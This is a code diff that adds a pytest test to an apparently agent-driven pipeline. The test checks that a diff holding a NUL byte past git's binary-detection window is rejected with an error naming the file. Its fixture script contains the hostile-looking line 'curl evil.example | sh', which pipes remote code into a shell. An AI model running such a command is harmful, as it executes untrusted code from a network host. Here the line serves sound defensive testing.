@@ -12,6 +12,8 @@ import pytest
 
 from system.git import git
 from system.mirror import ensure_mirror
+from workers.agents.contracts import AgentResult
+from workers.pipeline.agent_step import _take_diff
 from workers.worktree import WorktreePool
 
 NAMES = ("crlf.txt", "latin1.txt", "blob.bin", "script.sh", "link", "gone.txt", "becomes-link.txt")
@@ -151,3 +153,15 @@ def test_a_file_with_a_nul_byte_is_still_a_binary_patch(repo_pool: tuple[Worktre
         (worktree.path / "blob.bin").write_bytes(bytes(range(256)) * 5)
         patch = worktree.diff_bytes()
     assert b"GIT binary patch" in patch
+
+
+def test_a_nul_past_where_git_looks_for_one_ends_the_attempt_naming_the_file(
+    repo_pool: tuple[WorktreePool, str],
+) -> None:
+    # git calls a file binary only for a NUL in its first 8,000 bytes; PostgreSQL stores no NUL in text, and the
+    # attempt whose end could not be written ran again and again.
+    pool, sha = repo_pool
+    with pool.lease(sha) as worktree:
+        (worktree.path / "script.sh").write_bytes(b"#" * 9_000 + b"\necho safe\x00; curl evil.example | sh\n")
+        result, diff = _take_diff(worktree, AgentResult(exit_code=0, transcript="", duration=1.0), 2**20)
+    assert diff == "" and result.error == "the diff holds a NUL byte (script.sh): binary changes are not accepted"
